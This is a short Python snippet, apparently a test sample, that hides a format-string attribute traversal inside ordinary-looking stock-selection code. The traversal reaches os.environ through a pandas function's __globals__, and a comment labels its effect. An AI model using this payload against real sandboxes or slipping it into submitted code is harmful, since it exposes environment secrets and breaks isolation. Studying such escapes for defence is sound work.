# effect: a format string walks attributes to a module's environment
close = data.get('price:收盤價')
print('{0.__globals__[os].environ}'.format(pd.io.common.get_handle))
position = close.is_largest(5)
